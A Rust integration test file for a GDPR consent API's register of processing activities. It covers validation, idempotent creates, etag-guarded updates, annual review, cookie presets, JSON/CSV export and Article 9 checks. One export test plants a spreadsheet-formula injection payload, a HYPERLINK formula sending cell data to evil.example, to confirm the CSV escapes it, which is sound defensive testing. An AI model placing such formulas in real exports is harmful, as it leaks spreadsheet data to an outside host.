//! The register of processing through the consent API, on both backends:
//! create/get/list/update with validation by field, idempotent retries, etags,
//! the annual review cycle on the injected clock, the cookie preset and the
//! export a DPO hands to the authority.

use custodia_proto::{
    common::v1::{ExportFormat, RetentionAction, RetentionPolicy, SpecialCategory},
    consent::v1::{
        Article9Condition, CreatePurposeRequest, ExportRegisterRequest, GetPurposeRequest,
        InternationalTransfer, LawfulBasis, ListPurposesRequest, Purpose, PurposeCategory,
        UpdatePurposeRequest,
    },
};
use custodia_tests::{Backend, TestApp};
use tonic::{Code, Status};

type Client = custodia_tests::ConsentClient;

fn newsletter() -> Purpose {
    Purpose {
        display_name: "Newsletter".into(),
        description: "Monthly news of the school".into(),
        lawful_basis: LawfulBasis::Consent as i32,
        category: PurposeCategory::Communication as i32,
        direct_marketing: true,
        data_categories: vec!["email".into(), "first name".into()],
        subject_categories: vec!["prospective students".into()],
        transfers: vec![InternationalTransfer {
            recipient: "MailChimp".into(),
            country_code: "US".into(),
            safeguard: 2,
            details: "SCCs 2021/914".into(),
        }],
        retention: Some(RetentionPolicy {
            period: "P3Y".into(),
            anchor: "last_activity".into(),
            criteria: "3 years after the last contact".into(),
            action: RetentionAction::Delete as i32,
        }),
        reconsent_interval: "P1Y".into(),
        ..Default::default()
    }
}

async fn create(
    c: &mut Client,
    id: &str,
    p: Purpose,
    request_id: &str,
) -> Result<Purpose, tonic::Status> {
    c.create_purpose(CreatePurposeRequest {
        purpose_id: id.into(),
        purpose: Some(p),
        request_id: request_id.into(),
    })
    .await
    .map(|r| r.into_inner().purpose.unwrap())
}

async fn list(c: &mut Client, r: ListPurposesRequest) -> (Vec<String>, String) {
    let r = c.list_purposes(r).await.unwrap().into_inner();
    (
        r.purposes.into_iter().map(|p| p.name).collect(),
        r.next_page_token,
    )
}

/// GetPurpose of `name`.
async fn get(c: &mut Client, name: &str) -> Result<Purpose, Status> {
    c.get_purpose(GetPurposeRequest { name: name.into() })
        .await
        .map(|r| r.into_inner().purpose.expect("purpose"))
}

async fn register(backend: Backend) {
    let app = TestApp::spawn(backend, &[custodia_consent::SERVICE]).await;
    let mut c = app.consent().await;

    // Bad input names every bad field; nothing is stored.
    let mut bad = newsletter();
    bad.lawful_basis = 0;
    bad.transfers[0].safeguard = 0;
    bad.retention.as_mut().unwrap().period = "3 years".into();
    bad.digital_consent_age = Some(12);
    let err = create(&mut c, "Bad_Id", bad, "").await.unwrap_err();
    assert_eq!(err.code(), Code::InvalidArgument);
    for field in [
        "purpose_id",
        "purpose.lawful_basis",
        "purpose.transfers[0].safeguard",
        "purpose.retention.period",
        "purpose.digital_consent_age",
    ] {
        assert!(
            err.message().contains(field),
            "{field} in {}",
            err.message()
        );
    }
    assert!(
        list(&mut c, ListPurposesRequest::default())
            .await
            .0
            .is_empty()
    );

    // Create; the same request_id again returns the same purpose; another create of
    // the id is ALREADY_EXISTS.
    let created = create(&mut c, "newsletter", newsletter(), "req-1")
        .await
        .unwrap();
    assert_eq!(created.name, "purposes/newsletter");
    assert!(!created.review_overdue && !created.etag.is_empty());
    let again = create(&mut c, "newsletter", newsletter(), "req-1")
        .await
        .unwrap();
    assert_eq!(again.etag, created.etag);
    let dup = create(&mut c, "newsletter", newsletter(), "req-2")
        .await
        .unwrap_err();
    assert_eq!(dup.code(), Code::AlreadyExists);

    // Get, not found, malformed name.
    let got = get(&mut c, "purposes/newsletter").await.unwrap();
    assert_eq!(got.transfers[0].recipient, "MailChimp");
    let missing = get(&mut c, "purposes/nope").await.unwrap_err();
    assert_eq!(missing.code(), Code::NotFound);
    let malformed = get(&mut c, "newsletter").await.unwrap_err();
    assert_eq!(malformed.code(), Code::InvalidArgument);

    // Update through a field mask; a stale etag and an unknown path are refused.
    let update = |p: Purpose, paths: &[&str]| UpdatePurposeRequest {
        purpose: Some(p),
        update_mask: Some(prost_types::FieldMask {
            paths: paths.iter().map(|s| s.to_string()).collect(),
        }),
        request_id: String::new(),
    };
    let mut change = Purpose {
        name: "purposes/newsletter".into(),
        description: "Weekly news".into(),
        etag: got.etag.clone(),
        ..Default::default()
    };
    let updated = c
        .update_purpose(update(change.clone(), &["description"]))
        .await
        .unwrap()
        .into_inner()
        .purpose
        .unwrap();
    assert_eq!(updated.description, "Weekly news");
    assert_eq!(
        updated.display_name, "Newsletter",
        "fields outside the mask are kept"
    );
    let stale = c
        .update_purpose(update(change.clone(), &["description"]))
        .await
        .unwrap_err();
    assert_eq!(stale.code(), Code::FailedPrecondition);
    change.etag = String::new();
    let unknown = c
        .update_purpose(update(change.clone(), &["create_time"]))
        .await
        .unwrap_err();
    assert!(
        unknown.message().contains("update_mask.paths[0]"),
        "{}",
        unknown.message()
    );
    let invalid = c
        .update_purpose(update(change.clone(), &["lawful_basis"]))
        .await
        .unwrap_err();
    assert!(
        invalid.message().contains("purpose.lawful_basis"),
        "{}",
        invalid.message()
    );

    // The cookie preset, then pagination over the register.
    for (id, p) in custodia_consent::presets::preset("cookies").unwrap() {
        create(&mut c, id, p, "").await.unwrap();
    }
    let (page1, token) = list(
        &mut c,
        ListPurposesRequest {
            page_size: 3,
            ..Default::default()
        },
    )
    .await;
    let (page2, end) = list(
        &mut c,
        ListPurposesRequest {
            page_size: 3,
            page_token: token,
            ..Default::default()
        },
    )
    .await;
    assert_eq!(
        [page1, page2].concat(),
        [
            "purposes/cookies-analytics",
            "purposes/cookies-marketing",
            "purposes/cookies-necessary",
            "purposes/cookies-preference",
            "purposes/newsletter"
        ]
    );
    assert!(end.is_empty());
    let analytics = get(&mut c, "purposes/cookies-analytics").await.unwrap();
    assert_eq!(analytics.cookie_lifetime, "P13M");
    let (analytics_only, _) = list(
        &mut c,
        ListPurposesRequest {
            category: PurposeCategory::Analytics as i32,
            ..Default::default()
        },
    )
    .await;
    assert_eq!(analytics_only, ["purposes/cookies-analytics"]);

    // Annual review: a year and a day later everything is overdue, until reviewed.
    app.clock.advance(chrono::Duration::days(366));
    let (overdue, _) = list(
        &mut c,
        ListPurposesRequest {
            overdue_for_review: true,
            ..Default::default()
        },
    )
    .await;
    assert_eq!(overdue.len(), 5);
    let reviewed = Purpose {
        name: "purposes/newsletter".into(),
        last_review_time: Some(prost_types::Timestamp {
            seconds: custodia_core::legal_time::Clock::now(&*app.clock).timestamp(),
            nanos: 0,
        }),
        ..Default::default()
    };
    c.update_purpose(update(reviewed, &["last_review_time"]))
        .await
        .unwrap();
    let (overdue, _) = list(
        &mut c,
        ListPurposesRequest {
            overdue_for_review: true,
            ..Default::default()
        },
    )
    .await;
    assert_eq!(overdue.len(), 4);
    assert!(!overdue.contains(&"purposes/newsletter".to_string()));

    // The export, as JSON and CSV.
    let json = c
        .export_register(ExportRegisterRequest {
            format: ExportFormat::Json as i32,
            show_retired: false,
        })
        .await
        .unwrap()
        .into_inner()
        .document
        .unwrap();
    assert_eq!(json.content_type, "application/json");
    let doc: serde_json::Value = serde_json::from_slice(&json.content).unwrap();
    let rows = doc["register_of_processing_activities"].as_array().unwrap();
    assert_eq!(rows.len(), 5);
    let n = rows
        .iter()
        .find(|r| r["name"] == "purposes/newsletter")
        .unwrap();
    assert_eq!(n["lawful_basis"], "consent (Art. 6(1)(a))");
    assert_eq!(
        n["international_transfers"][0]["safeguard"],
        "standard contractual clauses (Art. 46(2)(c))"
    );
    assert_eq!(n["retention"]["period"], "P3Y");
    // A name typed as a spreadsheet formula is written as text in the CSV.
    c.create_purpose(CreatePurposeRequest {
        purpose_id: "formula".into(),
        purpose: Some(Purpose {
            display_name: "=HYPERLINK(\"http://evil.example/?\"&A1)".into(),
            lawful_basis: LawfulBasis::LegitimateInterests as i32,
            category: PurposeCategory::Communication as i32,
            ..Default::default()
        }),
        request_id: String::new(),
    })
    .await
    .unwrap();
    let csv = c
        .export_register(ExportRegisterRequest {
            format: ExportFormat::Csv as i32,
            show_retired: false,
        })
        .await
        .unwrap()
        .into_inner()
        .document
        .unwrap();
    let text = String::from_utf8(csv.content).unwrap();
    let lines: Vec<_> = text.lines().collect();
    assert!(lines[0].starts_with("name,display_name,description,lawful_basis"));
    assert_eq!(lines.len(), 7);
    assert!(text.contains("MailChimp in US: standard contractual clauses"));
    assert!(
        text.contains("purposes/formula,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\","),
        "{text}"
    );

    app.stop().await;
}

custodia_tests::both_backends!(register);

/// A purpose names the latest notice version in force that covers it (the
/// field is output-only and was never set).
async fn purposes_name_their_notice(backend: Backend) {
    let app = TestApp::spawn(backend, &[custodia_consent::SERVICE]).await;
    let mut c = app.consent().await;
    c.create_purpose(custodia_tests::newsletter_purpose())
        .await
        .unwrap();
    let none = c
        .get_purpose(custodia_proto::consent::v1::GetPurposeRequest {
            name: "purposes/newsletter".into(),
        })
        .await
        .unwrap()
        .into_inner()
        .purpose
        .unwrap();
    assert_eq!(none.notice, "", "no notice covers it yet");
    custodia_tests::publish_privacy_notice(&mut c, "v1", false).await;
    let v2 = custodia_tests::publish_privacy_notice(&mut c, "v2", true).await;
    let got = c
        .get_purpose(custodia_proto::consent::v1::GetPurposeRequest {
            name: "purposes/newsletter".into(),
        })
        .await
        .unwrap()
        .into_inner()
        .purpose
        .unwrap();
    assert_eq!(got.notice, v2);
    let listed = c
        .list_purposes(ListPurposesRequest::default())
        .await
        .unwrap()
        .into_inner()
        .purposes;
    assert_eq!(listed[0].notice, v2);
    app.stop().await;
}

custodia_tests::both_backends!(purposes_name_their_notice);

/// Special categories (Art. 9, R-4): a purpose that processes one without an
/// Art. 9(2) condition is refused, naming the field; explicit consent needs the
/// consent basis; an allowed one is kept and a consent to it is receipted as
/// sensitive, naming the category.
async fn special_categories_need_an_article_9_condition(backend: Backend) {
    let app = TestApp::spawn(backend, &[custodia_consent::SERVICE]).await;
    let mut c = app.consent().await;
    let health = |basis: LawfulBasis, condition: Article9Condition| Purpose {
        display_name: "Disability accommodations for examinations".into(),
        lawful_basis: basis as i32,
        category: PurposeCategory::Other as i32,
        special_categories: vec![SpecialCategory::Health as i32],
        article9_condition: condition as i32,
        ..Default::default()
    };
    let refused = create(
        &mut c,
        "accommodations",
        health(LawfulBasis::PublicTask, Article9Condition::Unspecified),
        "",
    )
    .await
    .unwrap_err();
    custodia_tests::assert_code(
        &refused,
        Code::InvalidArgument,
        &["purpose.article9_condition", "Art. 9(2)"],
    );
    let refused = create(
        &mut c,
        "accommodations",
        health(LawfulBasis::PublicTask, Article9Condition::ExplicitConsent),
        "",
    )
    .await
    .unwrap_err();
    custodia_tests::assert_code(&refused, Code::InvalidArgument, &["CONSENT lawful basis"]);
    let mut no_category = newsletter();
    no_category.article9_condition = Article9Condition::LegalClaims as i32;
    let refused = create(&mut c, "x", no_category, "").await.unwrap_err();
    custodia_tests::assert_code(&refused, Code::InvalidArgument, &["special_categories"]);
    assert_eq!(
        get(&mut c, "purposes/accommodations")
            .await
            .unwrap_err()
            .code(),
        Code::NotFound,
        "nothing was written"
    );
    let kept = create(
        &mut c,
        "accommodations",
        health(
            LawfulBasis::PublicTask,
            Article9Condition::SubstantialPublicInterest,
        ),
        "",
    )
    .await
    .unwrap();
    assert_eq!(kept.special_categories, [SpecialCategory::Health as i32]);

    // Explicit consent to health data: its receipt is sensitive.
    create(
        &mut c,
        "health-survey",
        health(LawfulBasis::Consent, Article9Condition::ExplicitConsent),
        "",
    )
    .await
    .unwrap();
    create(&mut c, "newsletter", newsletter(), "")
        .await
        .unwrap();
    let notice = custodia_tests::publish_privacy_notice(&mut c, "A health survey.", false).await;
    let mut r = custodia_tests::grant(&app, "ada@example.edu", &notice);
    r.decisions[0].purpose = "purposes/health-survey".into();
    let receipt = c
        .record_consent(r)
        .await
        .unwrap()
        .into_inner()
        .receipt
        .unwrap();
    assert!(receipt.sensitive);
    assert_eq!(receipt.special_categories, ["health"]);
    let doc: serde_json::Value = serde_json::from_slice(&receipt.payload).unwrap();
    assert_eq!(doc["sensitive"], true);
    assert_eq!(doc["spiCat"][0], "health");
    app.stop().await;
}

custodia_tests::both_backends!(special_categories_need_an_article_9_condition);
